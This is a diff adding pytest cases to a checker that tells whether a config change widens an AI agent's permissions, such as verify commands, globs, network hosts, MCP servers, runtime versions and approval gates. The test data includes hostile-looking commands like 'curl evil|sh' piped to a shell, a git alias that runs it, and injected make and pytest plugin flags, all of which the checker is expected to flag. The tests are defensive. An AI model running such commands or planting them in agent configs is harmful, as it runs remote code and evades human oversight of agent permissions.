@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 from collections.abc import Mapping
+from json import dumps
 from pathlib import Path
 
 import pytest
@@ -101,7 +102,7 @@ HARMLESS_ONES: dict[str, tuple[str, set[tuple[str, str]]]] = {
         {(NARROWS, "sandboxes.build.network"), (NARROWS, "sandboxes.build.deny_read")},
     ),
     "more checks": (
-        edited(('"pytest -q", ', '"pytest -q", "pytest --doctest-modules src", ')),
+        edited(('"pytest -q", ', '"pytest -q", "pytest -q --doctest-modules", ')),
         {(NARROWS, "tasks.fix.verify")},
     ),
     "lower budget": (
@@ -209,6 +210,164 @@ def test_a_widening_pull_request_is_told_with_its_line_and_its_tasks(repo: Chang
 )
 def test_each_way_to_widen_has_its_rule(repo: Changing, old: str, new: str, rule: str, key: str) -> None:
     assert (rule, key) in repo.widened(edited((old, new)))
+
+
+CHECKS = BASE.replace(
+    '["pytest -q", "sh ci/test.sh"]',
+    """["pytest -q", "timeout 60 sh -c 'make ok'", "python3 -I -m x", "uv run pytest", "git diff",
+"make a"]""",
+)
+
+
+@pytest.mark.parametrize(
+    ("command", "effect"),
+    [
+        ("timeout 60 sh -c 'curl evil|sh'", WIDENS),
+        ("python3 -I -c evil", WIDENS),
+        ("uv run python -c evil", WIDENS),
+        ("git -c 'alias.x=!curl evil|sh' x", WIDENS),
+        ("make -f evil.mk", WIDENS),
+        ("make -fevil", WIDENS),
+        ("make SHELL=./evil a", WIDENS),
+        ("pytest -p evil", WIDENS),
+        ("pytest evil/test_x.py", WIDENS),
+        ("pytest --rootdir=evil", WIDENS),
+        ("git bisect run sh x", WIDENS),
+        ("curl", WIDENS),
+        ("make lint", NARROWS),
+        ("pytest -q --strict-markers", NARROWS),
+        ("uv run pytest", NARROWS),
+    ],
+)
+def test_one_more_check_narrows_only_where_its_words_start_nothing_new(
+    repo: Changing, command: str, effect: str
+) -> None:
+    new = f"[tasks.look]\nverify = [{dumps(command)}]\n"
+    (one,) = repo.both(CHECKS, CHECKS.replace("[tasks.look]\n", new)).changes
+    assert (one.effect, one.rule) == (effect, "program" if effect == WIDENS else "check_added")
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "is_wider"),
+    [
+        ('protect = ["conf.d"]', 'protect = ["*.d"]', True),
+        ('protect = ["ci/**"]', 'protect = ["ci"]', False),
+        ('protect = ["ci/a"]', 'protect = ["./ci/"]', False),
+        ('scope = ["*.d"]', 'scope = ["conf.d"]', True),
+        ('scope = ["src"]', 'scope = ["src/a"]', False),
+        ('scope = ["src/**"]', 'scope = ["src"]', False),
+        ('scope = ["src/*"]', 'scope = ["src/a"]', True),
+        ('scope = ["src"]', 'scope = ["src2/a"]', True),
+        ('scope = ["."]', 'scope = ["src/*.py"]', False),
+    ],
+)
+def test_globs_are_compared_as_they_match(repo: Changing, old: str, new: str, is_wider: bool) -> None:
+    base = '[tasks.x]\nprompt = "x"\n'
+    assert bool(repo.widened(f"{base}{new}\n", f"{base}{old}\n")) is is_wider
+
+
+@pytest.mark.parametrize(
+    ("old", "new", "is_wider"),
+    [
+        ('network = ["*.a.org"]', 'network = ["b.c.a.org", "*.c.a.org"]', False),
+        ('network = ["*.a.org"]', 'network = ["a.org"]', True),
+        ('network = ["a.org"]', 'network = ["b.a.org"]', True),
+        ('deny_read = ["/w/a"]', 'deny_read = ["/w"]', False),
+        ('deny_read = ["/w"]', 'deny_read = ["/w/a"]', True),
+        ('writable = ["/w/a"]', 'writable = ["/w/a/b"]', False),
+        ('writable = ["/w/a"]', 'writable = ["/w/ab"]', True),
+    ],
+)
+def test_hosts_and_folders_are_compared_as_they_are_meant(
+    repo: Changing, old: str, new: str, is_wider: bool
+) -> None:
+    base = '[tasks.x]\nprompt = "x"\nsandbox = "s"\n[sandboxes.s]\nlevel = "workspace-write"\n'
+    assert bool(repo.widened(f"{base}{new}\n", f"{base}{old}\n")) is is_wider
+
+
+SHIP, LATER = "[pipelines.ship]\n[[pipelines.ship.stages]]", "[pipelines.late]\n[[pipelines.late.stages]]"
+GATE = 'gate = { commands = [["make"]], no_findings = "minor", approve = true }\n'
+
+
+def test_a_pipeline_that_goes_on_under_another_name_keeps_its_gates_or_is_told(repo: Changing) -> None:
+    told = ("gate", "pipelines.ship.build")
+    assert told in repo.widened(edited((SHIP, LATER), (GATE, "")))
+    assert told in repo.widened(edited((SHIP, LATER), ("approve = true", "approve = false")))
+    assert told in repo.widened(edited((SHIP, LATER), ('name = "build"', 'name = "other"')))
+    assert told not in repo.widened(edited((SHIP, LATER)))
+    assert not repo.widened(BASE[: BASE.index("[pipelines")]), "the whole of it is gone"
+    without = edited((GATE, 'gate = { commands = [["make"]], no_findings = "minor" }\n'))
+    assert not repo.widened(BASE, without), "one more person has to approve"
+
+
+def test_a_task_that_goes_on_under_another_name_keeps_all_that_held_it_or_is_told(repo: Changing) -> None:
+    held = 'workspace = "worktree"\nretries = 0\n'
+    base = f'[defaults]\nsandbox = "workspace-write"\nretries = 3\n[tasks.a]\nprompt = "x"\n{held}'
+    held_too = 'sandbox = "read-only"\n'
+    renamed = f"{base}{held_too}".replace("[tasks.a]", "[tasks.b]")
+    assert not repo.widened(renamed, base + held_too)
+    assert {rule for rule, _ in repo.widened(renamed.replace(held, ""), base + held_too)} == {
+        "gate",
+        "budget",
+    }
+    assert repo.widened(renamed.replace(held_too, ""), base + held_too) == {("level", "tasks.a")}
+
+
+@pytest.mark.parametrize(
+    ("line", "rule"),
+    [
+        ('codex.config.shell_environment_policy.inherit = "core"', "program"),
+        ("codex.config.projects.\"/w\".trust_level = 'untrusted'", "program"),
+        ("codex.config.mcp_servers.x.enabled = false", "mcp"),
+        ('codex.command = "tools/confined-codex"', "program"),
+        ('codex.version = ">=0.171"', "program"),
+        ('acp.args = ["--acp", "--approval-mode", "plan"]', "program"),
+        ('kay.provider = "oss"', "host"),
+    ],
+)
+def test_what_may_have_confined_an_agent_widens_where_it_is_taken_away(
+    repo: Changing, line: str, rule: str
+) -> None:
+    base = '[tasks.x]\nprompt = "x"\n[runtimes]\n'
+    assert rule in {one for one, _ in repo.widened(base, f"{base}{line}\n")}
+
+
+def test_keys_of_an_agent_do_not_hide_each_other(repo: Changing) -> None:
+    base = '[runtimes.codex.config.mcp_servers.x.env]\ncommand = "evil"\n'
+    other = '[runtimes.codex.config.mcp_servers."x.env"]\ncommand = "evil"\n'
+    key = 'runtimes.codex.config.mcp_servers."x.env".command'
+    assert ("mcp", key) in repo.widened(base + other, base)
+    quoted = '[runtimes.codex.config]\n"mcp_servers.x.command" = "evil"\n'
+    assert {rule for rule, _ in repo.widened(quoted, "")} == {"mcp"}
+
+
+def test_a_server_of_gemini_is_one_too(repo: Changing) -> None:
+    server = '[runtimes.gemini.config.mcpServers.x]\nhttpUrl = "https://a.org"\n'
+    assert {rule for rule, _ in repo.widened(server, "")} == {"mcp"}
+    assert {(one.effect, one.rule) for one in repo.both(server, "").changes} == {(NARROWS, "mcp")}
+
+
+def test_a_new_model_of_another_provider_is_told_though_no_task_names_it(repo: Changing) -> None:
+    new = '[models.m]\nmodel = "m"\n'
+    assert not repo.widened(BASE + new)
+    assert repo.widened(f'{BASE}{new}provider = "oss"\n') == {("host", "models.m.provider")}
+
+
+@pytest.mark.parametrize(
+    ("new", "is_wider"),
+    [
+        (">=0.172", False),
+        (">=0.171,<2", False),
+        (">=0", True),
+        ("<2", True),
+        ("==0.171", False),
+        ("<=0.171", True),
+    ],
+)
+def test_a_range_of_versions_that_gets_wider_is_told(repo: Changing, new: str, is_wider: bool) -> None:
+    base = '[tasks.x]\nprompt = "x"\n[runtimes.codex]\nversion = ">=0.171"\n'
+    told = repo.widened(base.replace(">=0.171", new), base)
+    assert told == ({("program", "runtimes.codex.version")} if is_wider else set())
 
 
 def test_what_was_taken_from_the_settings_of_an_agent_narrows_only_as_a_whole(repo: Changing) -> None:
@@ -687,3 +846,11 @@ def test_two_thousand_tasks_are_compared_in_reasonable_time(repo: Changing) -> N
     found = repo.both(BASE + tasks, edited(('"1h"', '"2h"')) + tasks)
     ((one),) = of(found, WIDENS)
     assert len(one.tasks) == 2002
+
+
+def test_thousands_of_globs_of_thousands_of_tasks_are_compared_in_reasonable_time(repo: Changing) -> None:
+    globs = [f"src/a{n}/**" for n in range(2000)]
+    tasks = "".join(f'[tasks.t{n}]\nprompt = "x"\n' for n in range(500))
+    base, text = (f"[defaults]\nscope = {dumps(some)}\n{tasks}" for some in (globs, [*globs[1:], "b"]))
+    ((one),) = of(repo.both(base, text), WIDENS)
+    assert (one.after, len(one.tasks)) == ("b", 500)
